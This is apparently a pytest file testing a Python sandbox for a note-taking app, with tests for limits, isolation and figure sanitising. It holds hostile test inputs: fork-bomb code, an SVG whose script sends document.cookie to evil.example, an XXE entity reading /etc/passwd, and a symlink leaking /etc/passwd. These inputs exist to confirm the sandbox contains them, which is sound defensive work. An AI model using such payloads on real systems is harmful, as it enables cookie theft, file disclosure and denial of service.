"""The python-sim sandbox: real child interpreters, real limits, real namespaces where allowed.

Every test checks afterwards that nothing of the run is still alive: no process of the run's
dedicated uid and no launcher whose command line names it.
"""

import hashlib
import json
import os
import signal
import struct
import tempfile
import zlib
from pathlib import Path

import pytest

import notecards
from notecards.sim.untrusted_figures import clean_png, clean_svg
from notecards.sim.sandbox import (
    CHILD_SCRIPT, SANDBOX_UIDS, SandboxResult, interpreter_folders, processes_of_uid, run_python_sim,
)

pytestmark = pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs Linux /proc")

EMPTY_SVG = '<svg xmlns="http://www.w3.org/2000/svg"/>'
FS_READ_ONLY = "filesystem read-only outside the working folder"
FS_VIEW = "filesystem view holds only the interpreter, its packages, system libraries and the working folder"


def leftovers(result: SandboxResult) -> list[int]:
    """Processes of this run still alive: the sandbox uid's, or a launcher naming it."""
    alive = processes_of_uid(result.sandbox_uid) if result.sandbox_uid is not None else []
    marker = f'"uid": {json.dumps(result.sandbox_uid)}'
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().decode(errors="replace")
        except OSError:
            continue
        if str(CHILD_SCRIPT) in cmdline and (result.sandbox_uid is None or marker in cmdline):
            alive.append(int(entry.name))
    return alive


def png_of(width: int, height: int, rgb: bytes) -> bytes:
    """A PNG file of these RGB pixels, written by hand (no imaging library in the test)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\x00" + rgb[y * width * 3:(y + 1) * width * 3] for y in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", data[16:24])


@pytest.fixture
def vault():
    """A vault folder like a user's: owned by the runner, mode 0755, outside pytest's private tmp."""
    path = Path(tempfile.mkdtemp(prefix="notecards-test-vault-"))
    path.chmod(0o755)
    note = path / "note.md"
    note.write_text("Q: a?\nA: b\n")
    note.chmod(0o644)
    yield path
    for child in path.iterdir():
        child.unlink()
    path.rmdir()


def test_matplotlib_block_returns_its_png_and_nothing_else():
    code = (
        "import numpy as np, matplotlib.pyplot as plt\n"
        "rng = np.random.default_rng(1)\n"
        "fig, ax = plt.subplots(figsize=(4, 3), dpi=50)\n"
        "ax.hist(rng.normal(size=1000), bins=30)\n"
        "fig.savefig('hist.png')\n"
        "import os; os.makedirs('sub'); fig.savefig('sub/curve.svg')\n"
        "open('data.csv', 'w').write('1,2\\n')\n"
    )
    result = run_python_sim(code, timeout=60)
    assert result.error is None, result.stderr_tail
    assert sorted(result.files) == ["hist.png", "sub/curve.svg"]
    assert png_size(result.files["hist.png"]) == (200, 150)
    assert b"<svg" in result.files["sub/curve.svg"]
    assert leftovers(result) == []


def test_infinite_loop_times_out_and_its_process_group_is_gone():
    result = run_python_sim("while True:\n    pass\n", timeout=3)
    assert result.error == "timed out after 3 s"
    assert result.files == {}
    assert leftovers(result) == []


def test_cpu_limit_ends_a_busy_loop_before_the_wall_clock():
    result = run_python_sim("while True:\n    pass\n", timeout=30, cpu_seconds=1)
    assert result.error == "used more than 1 s of CPU time"
    assert leftovers(result) == []


@pytest.mark.parametrize(
    "code",
    ["x = bytearray(100 * 2**30)\n", "import numpy\nx = numpy.zeros(100 * 2**30 // 8)\n"],
    ids=["bytearray", "numpy"],
)
def test_huge_allocation_is_out_of_memory(code):
    result = run_python_sim(code, timeout=30, memory_mb=1024)
    assert result.error == "ran out of memory (limit 1024 MiB)"
    assert "MemoryError" in result.stderr_tail
    assert leftovers(result) == []


@pytest.mark.parametrize(
    "code",
    [
        "import os\nwhile True:\n    os.fork()\n",
        # children leave the process group and ignore fork failures: only the pid namespace / uid kill ends them
        "import os\nwhile True:\n    try:\n        if os.fork() == 0:\n            os.setsid()\n    except OSError:\n        pass\n",
    ],
    ids=["plain", "setsid-and-retry"],
)
def test_fork_bomb_is_contained_and_fully_killed(code):
    result = run_python_sim(code, timeout=3, max_processes=32)
    assert result.error is not None
    assert result.error == "timed out after 3 s" or result.error.startswith("exited with status 1: ")
    assert leftovers(result) == []


def test_exception_reports_the_last_traceback_line():
    result = run_python_sim("print('progress: 1')\ndef f():\n    return x\n\nf()\n", timeout=30)
    assert result.error == "exited with status 1: NameError: name 'x' is not defined"
    assert "Traceback" in result.stderr_tail
    assert leftovers(result) == []


def test_syntax_error_and_exit_status_are_reported():
    assert run_python_sim("x = = 1\n", timeout=30).error == "exited with status 1: SyntaxError: invalid syntax"
    assert run_python_sim("import sys\nsys.exit(3)\n", timeout=30).error == "exited with status 3"


def test_environment_is_clean(monkeypatch, tmp_path):
    monkeypatch.setenv("NOTECARDS_TEST_SECRET", "s3cr3t-value")
    (tmp_path / "planted.py").write_text("print('planted module imported')\n")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    code = (
        "import json, os, sys\n"
        "try:\n    import planted\nexcept ImportError:\n    pass\n"
        "print(json.dumps(dict(os.environ)))\n"
    )
    result = run_python_sim(code, timeout=30)
    assert result.error is None, result.stderr_tail
    env = json.loads(result.stderr_tail.splitlines()[-1])
    assert "s3cr3t-value" not in result.stderr_tail
    assert "planted module imported" not in result.stderr_tail
    assert "PYTHONPATH" not in env
    assert env["MPLBACKEND"] == "Agg"
    assert env["HOME"] == env["MPLCONFIGDIR"].rsplit("/", 1)[0]
    assert set(env) <= {"PATH", "HOME", "MPLBACKEND", "MPLCONFIGDIR", "TMPDIR", "LC_CTYPE",
                        "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS", "MKL_NUM_THREADS"}


def test_writes_outside_the_working_folder_fail_and_leave_the_vault_unchanged(vault):
    source_tree = Path(notecards.__file__).parent
    targets = {
        "vault_note": vault / "note.md",
        "vault_new": vault / "new.png",
        "source": source_tree / "sandbox_escape.png",
    }
    before = (vault / "note.md").read_bytes()
    for name, target in targets.items():
        code = f"open({str(target)!r}, 'w').write('overwritten by the sandbox')\n"
        result = run_python_sim(code, timeout=30)
        assert result.error is not None and result.error.startswith("exited with status 1:"), name
        assert any(reason in result.error for reason in
                   ("Read-only file system", "Permission denied", "No such file or directory")), name
        assert result.files == {}
        assert leftovers(result) == []
    assert (vault / "note.md").read_bytes() == before
    assert sorted(p.name for p in vault.iterdir()) == ["note.md"]
    assert not (source_tree / "sandbox_escape.png").exists()


def test_world_writable_tmp_is_read_only_where_the_mount_namespace_is_available():
    outside = Path(tempfile.gettempdir()) / f"notecards-escape-{os.getpid()}.png"
    result = run_python_sim(f"open({str(outside)!r}, 'wb').write(b'x')\n", timeout=30)
    try:
        if FS_READ_ONLY not in result.isolation:
            pytest.skip(f"no read-only mount namespace here: {result.isolation}")
        assert result.error is not None and "Read-only file system" in result.error
        assert not outside.exists()
    finally:
        outside.unlink(missing_ok=True)


def test_symlinked_and_fake_outputs_are_not_taken():
    code = (
        "import os\n"
        "os.symlink('/etc/passwd', 'leak.png')\n"
        "open('fake.png', 'w').write('not an image')\n"
        "open('real.svg', 'w').write('<svg xmlns=\"http://www.w3.org/2000/svg\"/>')\n"
    )
    result = run_python_sim(code, timeout=30)
    assert sorted(result.files) == ["real.svg"]
    assert result.error is not None
    assert "leak.png is not a regular file" in result.error
    assert "fake.png is not a valid PNG file" in result.error


def test_output_over_the_byte_limit_is_refused():
    code = "open('big.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(5000))\n"
    result = run_python_sim(code, timeout=30, max_output_bytes=1000)
    assert result.files == {}
    assert result.error is not None and "1000-byte" in result.error


def test_output_budget_is_shared_by_all_figures():
    noise = b"".join(hashlib.sha256(bytes([i])).digest() for i in range(96)) * 4  # 64 x 64 RGB, incompressible
    size = len(clean_png(png_of(64, 64, noise)))  # what each figure weighs once re-encoded
    code = (f"png = {png_of(64, 64, noise)!r}\n"
            "for name in 'abc':\n    open(name + '.png', 'wb').write(png)\n")
    result = run_python_sim(code, timeout=30, max_output_bytes=size * 5 // 2)
    assert sorted(result.files) == ["a.png", "b.png"]
    assert result.error == f"figures exceed the {size * 5 // 2}-byte output limit (c.png not taken)"


def test_no_network_where_a_network_namespace_is_available():
    code = "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=2)\n"
    result = run_python_sim(code, timeout=30)
    if "network namespace" not in result.isolation:
        pytest.skip(f"no network namespace here: {result.isolation}")
    assert result.error is not None and "Network is unreachable" in result.error


@pytest.mark.skipif(os.geteuid() != 0, reason="the uid drop only happens when running as root")
def test_as_root_the_code_runs_as_an_unprivileged_uid_and_the_folder_is_removed():
    code = "import os\nprint(os.getuid(), os.getgid(), os.getgroups(), os.getcwd())\n"
    result = run_python_sim(code, timeout=30)
    assert result.error is None, result.stderr_tail
    uid, gid, groups, cwd = result.stderr_tail.split(" ", 3)
    assert int(uid) == int(gid) == result.sandbox_uid != 0
    assert groups == "[]"
    assert not Path(cwd).exists()


def test_printing_megabytes_stops_at_the_output_limit():
    result = run_python_sim("while True:\n    print('x' * 1000)\n", timeout=30, max_output_bytes=100_000)
    assert result.error == "printed more than the 100000-byte output limit"
    assert leftovers(result) == []


def test_a_long_exception_message_is_cut_to_one_readable_line():
    result = run_python_sim("raise ValueError('x' * 5000)\n", timeout=30)
    assert result.error is not None and result.error.startswith("exited with status 1: ValueError: xxx")
    assert len(result.error) < 400


def test_a_daemon_that_ignores_sigterm_does_not_outlive_the_run():
    """Exact, with no guessed delay: when the run returns, no process of its uid is left, so
    nothing can change its figures after they were taken (what a daemon wrote before the block
    ended is the block's own output). An earlier version had the daemon overwrite the figure
    after sleeping 2 s, which a loaded machine could reach before the kill."""
    code = (
        "import os, signal, time\n"
        f"open('out.svg', 'w').write({EMPTY_SVG!r})\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "        time.sleep(100)\n"
        "    os._exit(0)\n"
    )
    result = run_python_sim(code, timeout=20)
    assert result.error is None, result.stderr_tail
    assert result.files == {"out.svg": clean_svg(EMPTY_SVG.encode())}
    assert leftovers(result) == []


@pytest.mark.parametrize("size", [2**20, 0], ids=["big-files", "many-files"])
def test_filling_the_working_folder_is_stopped(size):
    code = f"i = 0\nwhile True:\n    open(f'{{i}}.bin', 'wb').write(bytes({size}))\n    i += 1\n"
    result = run_python_sim(code, timeout=30, disk_mb=8)
    if not any(m.startswith("working folder limited") for m in result.isolation):
        pytest.skip(f"no private working folder here: {result.isolation}")
    assert result.error == "filled its working folder (limit 8 MiB, 10000 files)"
    assert leftovers(result) == []


def test_a_symlinked_folder_of_figures_is_not_followed(vault):
    (vault / "figure.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    code = f"import os\nos.symlink({str(vault)!r}, 'figs')\nopen('own.svg', 'w').write({EMPTY_SVG!r})\n"
    result = run_python_sim(code, timeout=30)
    assert result.error is None, result.stderr_tail       # the block ran, and only its own file came back
    assert result.files == {"own.svg": clean_svg(EMPTY_SVG.encode())}
    (vault / "figure.png").unlink()


def test_an_interrupt_in_the_caller_kills_the_run_and_removes_its_folder():
    before = set(Path(tempfile.gettempdir()).glob("notecards-sim-*"))
    signal.signal(signal.SIGALRM, lambda *_: (_ for _ in ()).throw(KeyboardInterrupt))
    signal.setitimer(signal.ITIMER_REAL, 1.0)
    try:
        with pytest.raises(KeyboardInterrupt):
            run_python_sim("import time\ntime.sleep(100)\n", timeout=30)
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
    assert set(Path(tempfile.gettempdir()).glob("notecards-sim-*")) <= before
    assert leftovers(SandboxResult({}, None, "", [], None)) == []
    assert [pid for uid in sandbox_uids_alive() for pid in processes_of_uid(uid)] == []


def sandbox_uids_alive() -> set[int]:
    uids = set()
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            uid = int(status.read_text().split("\nUid:")[1].split()[0])
        except (OSError, IndexError):
            continue
        if SANDBOX_UIDS[0] <= uid < SANDBOX_UIDS[1]:
            uids.add(uid)
    return uids


@pytest.mark.skipif(os.geteuid() != 0 or Path.home().stat().st_mode & 0o001,
                    reason="only a root-run sandbox hides a private home")
def test_a_private_home_shows_nothing_but_the_interpreter():
    result = run_python_sim(f"import os\nprint(sorted(os.listdir({str(Path.home())!r})))\n", timeout=30)
    assert result.error is None, result.stderr_tail
    seen = set(json.loads(result.stderr_tail.splitlines()[-1].replace("'", '"')))
    interpreter = {Path(p).relative_to(Path.home()).parts[0] for p in interpreter_folders()
                   if Path(p).is_relative_to(Path.home())}
    assert seen <= interpreter



def read_attempt(path: Path) -> str:
    return (f"try:\n    print('READ', len(open({str(path)!r}, 'rb').read()))\n"
            f"except OSError as exc:\n    print('REFUSED', exc.errno)\n")


def test_the_code_cannot_read_the_machines_files_nor_the_vaults_other_notes(vault):
    """World-readable files outside (passwd-like, the vault's other notes) are not in its view."""
    outside = Path(tempfile.mkdtemp(prefix="notecards-test-world-"))
    outside.chmod(0o755)
    secret = outside / "passwd"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
    secret.chmod(0o644)
    try:
        code = "".join(read_attempt(p) for p in (secret, vault / "note.md", Path("/etc/hostname")))
        result = run_python_sim(code + "import numpy, matplotlib.pyplot\n", timeout=60)
        if "mount namespace" not in result.isolation:
            pytest.skip(f"no mount namespace here, reads are bounded by permissions: {result.isolation}")
        assert FS_VIEW in result.isolation
        assert result.error is None, result.stderr_tail
        assert result.stderr_tail.split() == ["REFUSED", "2"] * 3
    finally:
        secret.unlink()
        outside.rmdir()


PNG_WITH_TEXT = (
    "import zlib, struct\n"
    "def chunk(kind, data):\n"
    "    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))\n"
    "ihdr = struct.pack('>IIBBBBB', 2, 2, 8, 2, 0, 0, 0)\n"
    "pixels = zlib.compress(b'\\x00' + bytes(6) + b'\\x00' + bytes(6))\n"
    "png = (b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', ihdr) + chunk(b'tEXt', b'Comment\\x00SMUGGLED-SECRET')\n"
    "       + chunk(b'IDAT', pixels) + chunk(b'IEND', b'') + b'SMUGGLED-TAIL')\n"
    "open('figure.png', 'wb').write(png)\n"
    "open('fake.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\nSMUGGLED raw text behind the magic')\n"
)


def test_a_png_is_re_encoded_without_its_text_chunks_and_raw_text_behind_its_magic_is_refused():
    result = run_python_sim(PNG_WITH_TEXT, timeout=30)
    assert sorted(result.files) == ["figure.png"]
    assert b"SMUGGLED" not in result.files["figure.png"]
    assert png_size(result.files["figure.png"]) == (2, 2)
    assert result.error == "fake.png is not a valid PNG file"


HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
<script>fetch('https://evil.example/?'+document.cookie)</script>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
<style>@import url(https://evil.example/a.css); rect {{ fill: url(https://evil.example/p) }}</style>
<a href="https://evil.example/"><text>click</text></a>
<image href="https://evil.example/track.png" width="1" height="1"/>
<use xlink:href="https://evil.example/sprite.svg#x"/>
<rect id="r" width="10" height="10" onclick="steal()" style="fill:url(https://evil.example/f)"/>
<circle r="3" fill="url(#r)" clip-path="url(#r)"/>
<metadata>SMUGGLED</metadata>
</svg>"""


def test_an_svg_loses_scripts_event_attributes_and_external_references_but_keeps_its_drawing():
    result = run_python_sim(f"open('figure.svg', 'w').write({HOSTILE_SVG!r})\n", timeout=30)
    assert result.error is None, result.stderr_tail
    svg = result.files["figure.svg"].decode()
    for banned in ("script", "foreignObject", "iframe", "onload", "onclick", "evil.example", "@import",
                   "SMUGGLED", "<a "):
        assert banned not in svg, banned
    assert '<rect id="r" width="10" height="10"' in svg
    assert 'fill="url(#r)"' in svg and 'clip-path="url(#r)"' in svg


def test_an_svg_with_entities_is_refused():
    svg = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')
    result = run_python_sim(f"open('figure.svg', 'w').write({svg!r})\n", timeout=30)
    assert result.files == {}
    assert result.error == "figure.svg is not a valid SVG file"
